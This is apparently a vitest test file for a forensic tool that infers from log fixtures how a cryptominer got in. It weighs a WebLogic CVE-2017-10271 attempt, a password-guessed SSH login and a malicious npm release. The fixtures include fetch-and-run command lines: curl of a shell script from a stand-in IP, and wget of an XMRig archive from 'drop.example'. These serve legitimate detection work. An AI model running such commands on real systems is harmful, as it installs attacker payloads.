import { describe, expect, test } from 'vitest';
import { type Claimed, type Logged, makeLogCase, minersStart as miner } from '../../../tests/make-log-case.ts';
import type { Answer } from '../../model/answer.ts';
import { entry } from '../entry.ts';

const attempt: Logged = {
  in: 'access.log',
  kind: 'exploit-attempt',
  value: {
    log: 'access-log',
    exploit: 'weblogic-wls-wsat',
    title: 'WebLogic wls-wsat',
    cve: ['CVE-2017-10271'],
    service: 'weblogic',
    client: '203.0.113.7',
    target: '/wls-wsat/CoordinatorPortType',
    status: 500,
    carries: 'command',
    start: '2026-11-03T04:12:55.000Z',
  },
};
const child: Logged = {
  in: 'audit.log',
  kind: 'process-start',
  value: {
    log: 'audit-log',
    program: '/usr/bin/curl',
    command: 'curl http://203.0.113.9/x.sh',
    parent: { program: '/usr/bin/java' },
    why: ['child-of-service', 'fetches'],
    service: 'weblogic',
    start: '2026-11-03T04:12:57.000Z',
  },
};
const guessed: Logged = {
  in: 'auth.log',
  kind: 'login-event',
  value: {
    log: 'syslog',
    outcome: 'worked',
    service: 'ssh',
    account: 'deploy',
    from: '198.51.100.4',
    method: 'password',
    after: { failures: 412, accounts: 31, seconds: 3_600 },
    start: '2026-11-03T03:58:01.000Z',
    clock: { zone: 'unknown' },
  },
};
const span = (log: string, ...tells: ('web-requests' | 'logins' | 'processes')[]): Logged => ({
  in: log,
  kind: 'log-span',
  value: { log, tells, start: '2026-10-27T00:00:00.000Z', end: '2026-11-05T00:00:00.000Z' },
});
const mines = (at: number): Claimed => ({ detector: 'miner-started', stage: 'configured', over: [at] });

function answerTo(seen: readonly Logged[], claims: readonly Claimed[]): Answer {
  return entry.assess(makeLogCase(seen, claims));
}

describe('an entry that logs tell of', () => {
  test('an attempt that a child of the service followed is the way in, and the earliest step', () => {
    const answer = answerTo(
      [attempt, child, miner],
      [{ detector: 'exploit-worked', stage: 'capability', over: [0, 1], title: 'WebLogic was broken into' }, mines(2)],
    );
    expect(answer.says).toMatch(/^Most likely: a hole, or a missing password/);
    expect(answer.says).toContain('The earliest step that the evidence supports: 2026-11-03 04:12 UTC: 203.0.113.7');
    expect(answer.timeline?.moments.map(({ role }) => role)).toEqual(['way-in', 'deed', 'mining']);
    expect(answer.timeline?.first).toBe(0);
  });

  test('the same attempt, without what followed it, is an attempt', () => {
    const answer = answerTo([attempt, miner], [mines(1)]);
    expect(answer.says).toContain('Not enough evidence');
    expect(answer.says).not.toContain('Most likely');
    expect(answer.timeline?.moments.map(({ role }) => role)).toEqual(['attempt', 'mining']);
  });

  test('a login that worked after many failures is the way in, and says where its clock is not sure', () => {
    const answer = answerTo([guessed, miner], [{ detector: 'login-guessed', stage: 'mention', over: [0] }, mines(1)]);
    expect(answer.says).toMatch(/^Most likely: a login or a key/);
    expect(answer.says).toContain('2026-11-03 03:58 (zone not told)');
  });

  test('a log that covers the time and shows nothing speaks against its way in, and is not asked for', () => {
    const without = answerTo([miner], [mines(0)]);
    const covered = answerTo([miner, span('access.log', 'web-requests')], [mines(0)]);
    const chance = (answer: Answer): number =>
      answer.hypotheses.find(({ id }) => id === 'exploit')?.probability.mid ?? 0;
    expect(chance(covered)).toBeLessThan(chance(without));
    expect(covered.next.join(' ')).not.toContain('/var/log/nginx');
    expect(without.next.join(' ')).toContain('/var/log/nginx');
  });

  test('the silence of another machine’s log says nothing', () => {
    const elsewhere: Logged = {
      in: 'access.log',
      kind: 'log-span',
      value: {
        log: 'access-log',
        machine: 'web02',
        tells: ['web-requests'],
        start: '2026-10-27T00:00:00.000Z',
        end: '2026-11-05T00:00:00.000Z',
      },
    };
    const here: Logged = {
      in: 'audit.log',
      kind: 'process-start',
      value: { log: 'audit-log', machine: 'web01.example.com', why: ['mines'], start: '2026-11-03T04:13:20.000Z' },
    };
    const answer = answerTo([here, elsewhere], [mines(0)]);
    expect(answer.weighing?.items.map(({ indicator }) => indicator)).not.toContain('no-attempt-in-log');
  });

  test('what no log covers is named', () => {
    const { details } = answerTo([miner, span('access.log', 'web-requests')], [mines(0)]);
    expect(details?.join(' ')).toContain('No log here covers the day before it for started programs and logins.');
  });

  test('attempts where nothing mines are a word, and no way in', () => {
    const answer = answerTo([attempt], []);
    expect(answer.says).toContain('nothing shows that anybody got in');
    expect(answer.hypotheses).toEqual([]);
  });

  test('an entry that worked is told where nothing mines, too', () => {
    const answer = answerTo([attempt, child], [{ detector: 'exploit-worked', stage: 'mention', over: [0, 1] }]);
    expect(answer.timeline?.first).toBe(0);
  });
});

describe('a timeline', () => {
  test('keeps the attempts closest to the beginning, and counts the others', () => {
    const many = Array.from({ length: 40 }, (_, i): Logged => {
      const start = `2026-10-${String((i % 28) + 1).padStart(2, '0')}T${String(i % 24).padStart(2, '0')}:00:00.000Z`;
      return { ...attempt, value: { ...attempt.value, start } };
    });
    const { timeline } = answerTo(
      [...many, attempt, child, miner],
      [{ detector: 'exploit-worked', stage: 'capability', over: [40, 41] }, mines(42)],
    );
    expect(timeline?.moments.filter(({ role }) => role === 'attempt')).toHaveLength(12);
    expect(timeline?.left).toBe(28);
    expect(timeline?.moments[0]?.time.slice(0, 7)).toBe('2026-10');
  });

  test('tells attempts of a kind together, but for those beside the beginning', () => {
    const others = ['192.0.2.1', '192.0.2.2', '192.0.2.2'].map((client, i): Logged => {
      const start = `2026-10-2${i}T00:00:00.000Z`;
      return { ...attempt, value: { ...attempt.value, client, start, status: 404 } };
    });
    const { timeline } = answerTo(
      [...others, attempt, child, miner],
      [{ detector: 'exploit-worked', stage: 'capability', over: [3, 4] }, mines(5)],
    );
    expect(timeline?.moments.map(({ role, says }) => `${role}: ${says}`)[0]).toBe(
      'attempt: 2 addresses tried WebLogic wls-wsat (CVE-2017-10271), 3 times in all',
    );
    expect(timeline?.moments[0]).toMatchObject({ until: '2026-10-22T00:00:00.000Z', because: ['o1', 'o2', 'o3'] });
    expect(timeline?.moments).toHaveLength(4);
  });

  test('tells once what two readers or two rotated logs tell', () => {
    const { timeline } = answerTo([miner, { ...miner, in: 'audit.log.1' }], [mines(0)]);
    expect(timeline?.moments).toHaveLength(1);
    expect(timeline?.moments[0]?.because).toEqual(['o1', 'o2']);
  });

  test('begins with no everyday thing, and tells such things only beside the beginning', () => {
    const installed = (start: string): Logged => ({
      in: 'dpkg.log',
      kind: 'log-action',
      value: { log: 'dpkg', action: 'package-installed', what: 'lamp 1.0', start },
    });
    const seen = [installed('2026-11-01T00:00:00.000Z'), installed('2026-11-03T04:10:00.000Z'), miner];
    const { timeline } = answerTo(seen, [mines(2)]);
    expect(timeline?.moments.map(({ time }) => time.slice(5, 16))).toEqual(['11-03T04:10', '11-03T04:13']);
    expect(timeline?.first).toBe(1);
  });

  test('keeps the way in and the miner, however much was done in the years before', () => {
    const tasks = Array.from({ length: 300 }, (_, i): Logged => {
      const start = new Date(Date.UTC(2026, 0, 1) + i * 43_200_000).toISOString();
      return { in: 'cron.log', kind: 'log-action', value: { log: 'syslog', action: 'task-made', what: `${i}`, start } };
    });
    const { timeline } = answerTo(
      [...tasks, attempt, child, miner],
      [{ detector: 'exploit-worked', stage: 'capability', over: [300, 301] }, mines(302)],
    );
    expect(timeline?.moments).toHaveLength(120);
    expect(timeline?.moments[timeline.first ?? 0]?.role).toBe('way-in');
    expect(timeline?.moments.at(-1)?.role).toBe('mining');
    expect(timeline?.left).toBe(183);
  });

  test('goes by time, whatever order the logs came in', () => {
    const { timeline } = answerTo([miner, child, attempt], [mines(0)]);
    const times = timeline?.moments.map(({ time }) => time) ?? [];
    expect(times).toEqual([...times].sort());
  });
});

describe('a log of logins that is too young to know who is strange', () => {
  const cameAt = (start: string, more: { newHere?: boolean } = {}): Logged => ({
    in: 'auth.log',
    kind: 'login-event',
    value: { log: 'syslog', outcome: 'worked', service: 'ssh', account: 'anna', from: '192.0.2.1', start, ...more },
  });
  const chanceOfLogin = (...seen: readonly Logged[]): number =>
    answerTo([...seen, miner], [mines(seen.length)]).hypotheses.find(({ id }) => id === 'login')?.probability.mid ?? 0;
  const reassures = (login: Logged): boolean => chanceOfLogin(span('auth.log', 'logins'), login) < chanceOfLogin(login);
  test('does not vouch for who first came on the last day', () => {
    expect(reassures(cameAt('2026-11-03T03:00:00.000Z'))).toBe(false);
  });
  test('vouches for those who came before that, or from where somebody had come', () => {
    expect(reassures(cameAt('2026-10-28T03:00:00.000Z'))).toBe(true);
    expect(reassures(cameAt('2026-11-03T03:00:00.000Z', { newHere: false }))).toBe(true);
  });
});

describe('what is only possible', () => {
  const maybe: Claimed = { detector: 'login-guessed', stage: 'mention', over: [0], confidence: 'low' };

  test('weighs less than what was seen, and is no way in', () => {
    const chance = ({ hypotheses }: Answer): number =>
      hypotheses.find(({ id }) => id === 'login')?.probability.mid ?? 0;
    const sure = answerTo([guessed, miner], [{ ...maybe, confidence: 'moderate' }, mines(1)]);
    const possible = answerTo([guessed, miner], [maybe, mines(1)]);
    expect(chance(possible)).toBeLessThan(chance(sure));
    expect(possible.timeline?.moments.map(({ role }) => role)).not.toContain('way-in');
  });

  test('is not told beside what is surer', () => {
    const worked: Claimed = { detector: 'exploit-worked', stage: 'capability', over: [1, 2] };
    const { hypotheses, timeline } = answerTo([guessed, attempt, child, miner], [maybe, worked, mines(3)]);
    expect(hypotheses[0]?.id).toBe('exploit');
    expect(timeline?.moments[timeline.first ?? -1]?.says).toContain('203.0.113.7');
  });
});

describe('an attempt that nothing is known to have followed', () => {
  test('says what would show whether it worked, unless it was turned away or is long ago', () => {
    const asked = (seen: Logged): string => answerTo([seen, miner], [mines(1)]).next.join(' ');
    const with404: Logged = { ...attempt, value: { ...attempt.value, status: 404 } };
    const longAgo: Logged = { ...attempt, value: { ...attempt.value, start: '2026-10-01T00:00:00.000Z' } };
    expect(asked(attempt)).toContain('What would show whether WebLogic wls-wsat worked: ');
    expect(asked(with404)).not.toContain('What would show');
    expect(asked(longAgo)).not.toContain('What would show');
  });
});

describe('logs of a day each', () => {
  const dayOf = (day: number): Logged => ({
    in: `access.log.${day}`,
    kind: 'log-span',
    value: {
      log: 'access-log',
      tells: ['web-requests'],
      start: `2026-11-0${day}T00:02:00.000Z`,
      end: `2026-11-0${day}T23:57:00.000Z`,
    },
  });
  const lacks = (seen: readonly Logged[]): boolean =>
    (answerTo([...seen, miner], [mines(seen.length)]).details ?? []).join(' ').includes('requests to web servers');

  test('are told together where they follow one another', () => {
    const { timeline } = answerTo([dayOf(1), dayOf(2), dayOf(4), miner], [mines(3)]);
    expect(timeline?.covered).toEqual([
      {
        what: 'web requests',
        start: '2026-11-01T00:02:00.000Z',
        end: '2026-11-02T23:57:00.000Z',
        log: 'access.log.1 to access.log.2',
      },
      {
        what: 'web requests',
        start: '2026-11-04T00:02:00.000Z',
        end: '2026-11-04T23:57:00.000Z',
        log: 'access.log.4',
      },
    ]);
  });

  test('cover a longer time together, unless one is missing', () => {
    expect(lacks([dayOf(1), dayOf(2), dayOf(3)])).toBe(false);
    expect(lacks([dayOf(1), dayOf(3)])).toBe(true);
    expect(lacks([dayOf(1), dayOf(2)])).toBe(true);
  });
});

describe('a release that is known to have brought a miner', () => {
  const release: Logged = {
    in: '/home/ann/app/node_modules/@rspack/core/package.json',
    kind: 'bad-release',
    value: {
      ecosystem: 'npm',
      name: '@rspack/core',
      version: '1.1.7',
      says: 'fetched and started XMRig when it was installed',
      installed: true,
      mines: true,
    },
  };
  const known: Claimed = { detector: 'known-bad-release', stage: 'capability', over: [0] };

  test('is what fits best, where a miner is here', () => {
    const answer = answerTo([release, miner], [known, mines(1)]);
    expect(answer.says).toContain('what fits best so far (a package');
    expect(answer.says).toContain('@rspack/core 1.1.7 (npm) fetched and started XMRig');
  });

  test('is told once, and not again as something that stands in a package', () => {
    const told = answerTo([release, miner], [known, mines(1)]).weighing?.items.map(({ indicator }) => indicator);
    expect(told).toContain('new-software');
    expect(told).not.toContain('in-package');
  });

  test('is no way in where a lock file alone names it', () => {
    const named = { ...release, value: { ...release.value, installed: false } } as Logged; // the same release
    const told = answerTo([named, miner], [mines(1)]).weighing?.items.map(({ indicator }) => indicator) ?? [];
    expect(told).not.toContain('new-software');
  });
});

describe('what fetches a miner and starts it', () => {
  const fetched = (name: string): Logged => ({
    in: name,
    kind: 'download',
    value: { url: 'http://drop.example/xmrig.tar.gz', tool: 'wget', runs: true },
  });
  const weighed = (name: string): string[] =>
    answerTo([fetched(name)], [{ detector: 'miner-dropper', stage: 'capability', over: [0] }]).weighing?.items.map(
      ({ indicator }) => indicator,
    ) ?? [];

  test.each([
    ['a script', '/tmp/x.sh', true],
    ['what somebody typed', '/home/ann/.bash_history', false],
  ])('is weighed where it is %s: %s', (_, name, isWeighed) => {
    expect(weighed(name).includes('fetch-and-run')).toBe(isWeighed);
  });
});

describe('a request that only asks, as far as the log shows', () => {
  const asked = (start: string): Logged =>
    ({ ...attempt, value: { ...attempt.value, carries: 'probe', start } }) as Logged; // the same request
  const told = (start: string): string[] =>
    answerTo([asked(start), miner], [mines(1)]).weighing?.items.flatMap(({ indicator, says }) =>
      indicator === 'exploit-attempted' ? [says] : [],
    ) ?? [];

  test('is weighed in the minutes before the miner came', () => {
    expect(told('2026-11-03T04:12:55.000Z')).toEqual([
      expect.stringMatching(/CVE-2017-10271, within minutes before it$/),
    ]);
  });

  test.each(['2026-11-02T04:12:55.000Z', '2026-11-03T05:12:55.000Z'])('is the noise of every day at %s', (start) => {
    expect(told(start)).toEqual([]);
  });
});
